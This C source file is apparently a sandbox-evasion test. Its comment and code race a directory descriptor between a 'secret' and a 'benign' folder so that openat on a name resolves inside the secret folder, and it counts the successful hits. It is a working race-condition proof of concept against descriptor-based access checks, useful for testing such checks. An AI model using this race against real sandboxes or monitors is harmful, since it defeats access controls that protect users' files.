/* A race on a directory's descriptor: one thread makes it stand for one folder and then the other,
 * while another opens a name below it. Who resolves the descriptor later resolves another folder.
 *
 *     race-dirfd SECRET-FOLDER BENIGN-FOLDER NAME ROUNDS
 */
#include "evade.h"
#include <pthread.h>

static int folders[2];
static int place;
static volatile int done;

static void *flip(void *unused)
{
	for (unsigned i = 0; !done; i++)
		dup2(folders[i & 1], place);
	return unused;
}

int main(int argc, char **argv)
{
	if (argc != 5)
		return 2;
	folders[0] = open(argv[1], O_RDONLY | O_DIRECTORY);
	folders[1] = open(argv[2], O_RDONLY | O_DIRECTORY);
	must(folders[0] >= 0 && folders[1] >= 0, "folders");
	place = dup(folders[1]);
	struct stat status;
	must(fstatat(folders[0], argv[3], &status, 0) == 0, argv[3]);
	pthread_t thread;
	must(pthread_create(&thread, NULL, flip, NULL) == 0, "pthread_create");
	long hits = 0;
	long rounds = atol(argv[4]);
	for (long round = 0; goes_on(round, rounds, hits); round++) {
		int fd = openat(place, argv[3], O_RDONLY);
		if (fd < 0)
			continue;
		hits += inode(fd) == status.st_ino;
		close(fd);
	}
	done = 1;
	pthread_join(thread, NULL);
	printf("fact hits %ld\n", hits);
	return 0;
}
